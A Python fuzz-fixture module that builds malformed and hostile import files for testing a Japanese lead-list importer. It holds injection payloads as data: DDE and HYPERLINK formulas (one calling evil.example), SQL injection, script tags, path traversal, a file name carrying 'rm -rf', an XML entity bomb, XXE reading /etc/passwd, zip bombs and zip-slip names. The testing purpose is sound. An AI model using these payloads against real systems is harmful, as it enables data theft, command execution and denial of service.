"""Odd and hostile files, made anew from a seed: what a person drops on a list import by mistake, and what somebody else would by intent."""

import io
import random
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from xlsxwriter import Workbook

from .lists import csv_text

HEADER = ("会社名", "部署", "役職", "氏名", "カナ", "電話番号", "メール", "リードソース", "反響日時")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+81312345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "＝1+1",
    "%0A=1",
)
TEXTS = (
    "",
    " ",
    "　",
    "なし",
    "NULL",
    "#N/A",
    "'; DROP TABLE lead; --",
    "<script>alert(1)</script>",
    "%s%n{0}",
    "../../etc/passwd",
    "\u202e反対",
    "\u200b\u200d\ufeff",
    "𠮷田󠄀 太郎",
    "👩‍👩‍👧‍👦",
    "ﾔﾏﾀﾞ ﾀﾛｳ",
    "e\u0301" * 40,
    "\x00",
    "\x1b[31m",
    "a" * 40_000,
    "山" * 5_000,
    "\r\n\r\n",
    '"',
    "“”",
    "①㈱髙﨑",
)
NUMBERS = (
    "03-1234-5678",
    "０３（１２３４）５６７８",
    "312345678",
    "3.12345678E8",
    "+81 (0)3 1234 5678",
    "03-1234-5678 内線 99999999999",
    "0" * 500,
    "090-0000-0000 / 03-9999-9999",
    "代表 06-6123-4567 直通 なし",
    "FAX 03-1234-5679",
    "1e309",
    "-1",
    "٠٣١٢٣٤٥٦٧٨",
    "110",
)
DATES = (
    "2026/11/20 10:00",
    "2026-13-45",
    "R8.11.20",
    "令和99年13月40日",
    "46000",
    "46000.99999",
    "1900-02-29",
    "9999-12-31T23:59:60Z",
    "0000-00-00",
    "2026-02-30",
    "S37.08.20",
    "99999999999999",
    "昨日",
)
ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "cp932",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "euc_jp",
    "iso2022_jp",
    "gb18030",
    "latin-1",
)
SEPARATORS = (",", ";", "\t", "|", ":")
ENDS = ("\n", "\r\n", "\r", "\n\r", "\x0b", "\u2028")


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file by its name and bytes; `kind` says what is odd about it."""

    kind: str
    name: str
    content: bytes

    def write(self, folder: Path) -> Path:
        """The file in a folder."""
        path = folder / self.name
        path.write_bytes(self.content)
        return path


def hostile_files(seed: int, count: int) -> Iterator[Hostile]:
    """`count` files: every kind in turn, each from its own numbers."""
    for number in range(count):
        make = KINDS[number % len(KINDS)]
        dice = random.Random(f"{seed} {number}")
        name, content = make(dice)
        yield Hostile(make.__name__, f"{number:04}-{name}", content)


def _rows(dice: random.Random, count: int) -> list[list[str]]:
    return [
        [
            dice.choice(("株式会社東海商事", "(株)東海商事", "", *TEXTS[:12]))
            + dice.choice(("", str(dice.randrange(20)))),
            dice.choice(("営業部", *TEXTS)),
            dice.choice(("部長", *FORMULAS)),
            dice.choice(("山田 太郎", "山田　花子", *TEXTS)),
            dice.choice(("ヤマダ タロウ", "", *TEXTS)),
            dice.choice(NUMBERS),
            dice.choice(
                ("a@example.jp", "A＠ＥＸＡＭＰＬＥ．ＪＰ", "a b@c", "@", "mailto:x@y.jp", *FORMULAS)
            ),
            dice.choice(("資料請求", "お問い合わせ", "?", *TEXTS)),
            dice.choice(DATES),
        ]
        for _ in range(count)
    ]


def _list(dice: random.Random, rows: int = 12) -> list[Sequence[str]]:
    return [HEADER, *_rows(dice, rows)]


def _encoded(text: str, encoding: str) -> bytes:
    return text.encode(encoding, "replace")


# --- text ---------------------------------------------------------------------------------------------------------------------


def odd_cells(dice: random.Random) -> tuple[str, bytes]:
    """A proper list whose cells are anything but."""
    return "list.csv", _encoded(
        csv_text(_list(dice, 30)), dice.choice(("utf-8", "utf-8-sig", "cp932", "utf-16"))
    )


def odd_encoding(dice: random.Random) -> tuple[str, bytes]:
    """Any encoding, said by no mark or a wrong one."""
    return "list.csv", dice.choice((b"", b"\xef\xbb\xbf", b"\xff\xfe")) + _encoded(
        csv_text(_list(dice)), dice.choice(ENCODINGS)
    )


def cut_off(dice: random.Random) -> tuple[str, bytes]:
    """The transfer ended in the middle of a character, or of a quoted cell."""
    content = _encoded(csv_text(_list(dice)), dice.choice(("cp932", "utf-8", "utf-16")))
    return "list.csv", content[: dice.randrange(len(content))]


def flipped_bytes(dice: random.Random) -> tuple[str, bytes]:
    """Some bytes are others."""
    content = bytearray(_encoded(csv_text(_list(dice)), dice.choice(("cp932", "utf-8"))))
    for _ in range(dice.randrange(1, 40)):
        content[dice.randrange(len(content))] = dice.randrange(256)
    return "list.csv", bytes(content)


def noise(dice: random.Random) -> tuple[str, bytes]:
    """No list at all."""
    return dice.choice(("list.csv", "list.xlsx", "list.xls", "list.ods", "list.tsv")), dice.randbytes(
        dice.randrange(5_000)
    )


def odd_lines(dice: random.Random) -> tuple[str, bytes]:
    """Separators and ends of line that change on the way, cells too many and too few."""
    parts = []
    for row in _list(dice):
        cells = list(row)[: dice.randrange(1, len(row) + 1)] + ["x"] * dice.randrange(4)
        parts.append(csv_text([cells], dice.choice(SEPARATORS), dice.choice(ENDS)))
    return "list.csv", "".join(parts).encode("utf-8", "replace")


def odd_quotes(dice: random.Random) -> tuple[str, bytes]:
    """Quotes that open and never close, or stand where they mean nothing."""
    text = csv_text(_list(dice))
    for _ in range(dice.randrange(1, 6)):
        at = dice.randrange(len(text))
        text = text[:at] + '"' + text[at:]
    return "list.csv", text.encode("utf-8", "replace")


def odd_header(dice: random.Random) -> tuple[str, bytes]:
    """A header that repeats, is empty, is below a preamble, is missing, or is all there is."""
    header = [dice.choice((*HEADER, "", "電話番号", "\x00", "=1+1")) for _ in HEADER]
    preamble = [[dice.choice(TEXTS[:12])] for _ in range(dice.randrange(8))]
    rows = _rows(dice, dice.randrange(4))
    return "list.csv", csv_text([*preamble, header, *rows]).encode("utf-8", "replace")


def wide_or_long(dice: random.Random) -> tuple[str, bytes]:
    """Thousands of columns, or one line without an end."""
    if dice.random() < 0.5:
        return "list.csv", csv_text(
            [[f"c{n}" for n in range(dice.randrange(201, 6_000))], ["x"] * 10]
        ).encode()
    return "list.csv", csv_text([HEADER, ["x" * dice.randrange(100_000, 2_000_000)]]).encode()


def nothing(dice: random.Random) -> tuple[str, bytes]:
    """Nothing, or next to it."""
    return dice.choice(("list.csv", "list.xlsx", "list.tsv")), dice.choice(
        (b"", b"\n", b"\xef\xbb\xbf", b"\xff\xfe", b"\x00" * 4_096, b",,,,\n,,,,\n", b"\r\n" * 500)
    )


def odd_name(dice: random.Random) -> tuple[str, bytes]:
    """A name made to hurt whoever prints or runs it."""
    name = dice.choice(
        (
            "=1+1.csv",
            "; rm -rf ~.csv",
            "a\nb.csv",
            "<b>x<b>.csv",
            "%s%n.csv",
            "-rf.csv",
            "名簿😀.CSV",
            "x.csv.exe",
        )
    )
    return name, csv_text(_list(dice, 3)).encode("utf-8", "replace")


def the_same_phone(dice: random.Random) -> tuple[str, bytes]:
    """One switchboard for everybody, one person on every line."""
    rows = [
        [
            f"会社{dice.randrange(3)}",
            "",
            "",
            f"佐藤 {dice.randrange(3)}",
            "",
            "03-1111-2222",
            "s@example.jp",
            "資料請求",
            "2026/11/20",
        ]
        for _ in range(40)
    ]
    return "list.csv", csv_text([HEADER, *rows]).encode("cp932")


# --- workbooks ----------------------------------------------------------------------------------------------------------------


def _book(fill: Callable[[Workbook], None]) -> bytes:
    buffer = io.BytesIO()
    with Workbook(buffer, {"in_memory": True, "nan_inf_to_errors": True}) as book:
        fill(book)
    return buffer.getvalue()


def odd_workbook(dice: random.Random) -> tuple[str, bytes]:
    """Numbers for phones, formulas, errors, merged cells, hidden sheets, a header far down."""

    def fill(book: Workbook) -> None:
        for name in ("表紙", "名簿", "=1+1")[: dice.randrange(1, 4)]:
            sheet = book.add_worksheet(name)
            if dice.random() < 0.3:
                sheet.hide()
            top = dice.randrange(6)
            sheet.write_row(top, 0, HEADER)
            for line, row in enumerate(_rows(dice, 8), top + 1):
                for column, cell in enumerate(row):
                    _write(dice, sheet, line, column, cell)
            if dice.random() < 0.4:
                sheet.merge_range(top + 2, 0, top + 4, 1, "結合")

    return dice.choice(("list.xlsx", "list.csv", "list.XLSX", "list.xls")), _book(fill)


def _write(dice: random.Random, sheet: object, line: int, column: int, cell: str) -> None:
    write = dice.choice(("string", "string", "string", "number", "formula", "blank"))
    text = cell[:32_000]
    if write == "number":
        sheet.write_number(line, column, dice.choice((312345678.0, 46000.5, float("inf"), -1.0, 1e300)))  # type: ignore[attr-defined]
    elif write == "formula":
        sheet.write_formula(line, column, "=1/0", None, dice.choice((0, "#DIV/0!", "text")))  # type: ignore[attr-defined]
    elif write == "string":
        sheet.write_string(line, column, text)  # type: ignore[attr-defined]


def broken_workbook(dice: random.Random) -> tuple[str, bytes]:
    """A workbook that was cut off, or some of whose bytes are others."""
    content = bytearray(_book(lambda book: book.add_worksheet().write_row(0, 0, HEADER)))
    if dice.random() < 0.5:
        return "list.xlsx", bytes(content[: dice.randrange(len(content))])
    for _ in range(dice.randrange(1, 60)):
        content[dice.randrange(len(content))] = dice.randrange(256)
    return "list.xlsx", bytes(content)


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(
        b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % (98 + n, *([97 + n] * 8)) for n in range(10)
    )
    + b"]><l>&k;</l>"
)
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


def bomb(dice: random.Random) -> tuple[str, bytes]:
    """A small archive that wants to become a large one, or that asks for files which are not its own."""
    sheet = dice.choice((b"<x>" + b"A" * 60_000_000, _LAUGHS, _OUTSIDE, b"\x00" * 40_000_000))
    names = dice.choice(
        (["xl/worksheets/sheet1.xml"], ["../../evil.xml"], [f"xl/s{n}.xml" for n in range(3_000)])
    )
    part = sheet if len(names) == 1 else b"<x/>"
    return dice.choice(("list.xlsx", "list.ods")), _zip(
        {"[Content_Types].xml": _TYPES, "xl/workbook.xml": _LAUGHS} | dict.fromkeys(names, part)
    )


def other_files(dice: random.Random) -> tuple[str, bytes]:
    """A picture, a document, an encrypted workbook, a database, under the name of a list."""
    return dice.choice(("list.csv", "list.xlsx", "list.xls", "list.ods")), dice.choice(
        (
            b"\x89PNG\r\n\x1a\n" + dice.randbytes(500),
            b"%PDF-1.7\n" + dice.randbytes(500),
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + dice.randbytes(3_000),
            b"SQLite format 3\x00" + dice.randbytes(500),
            b"PK\x05\x06" + b"\x00" * 18,
            b"<html><table><tr><td>a</td></tr></table></html>",
            b'{"leads": []}',
        )
    )


Kind = Callable[[random.Random], tuple[str, bytes]]
KINDS: tuple[Kind, ...] = (
    odd_cells,
    odd_encoding,
    cut_off,
    flipped_bytes,
    noise,
    odd_lines,
    odd_quotes,
    odd_header,
    wide_or_long,
    nothing,
    odd_name,
    the_same_phone,
    odd_workbook,
    broken_workbook,
    bomb,
    other_files,
)
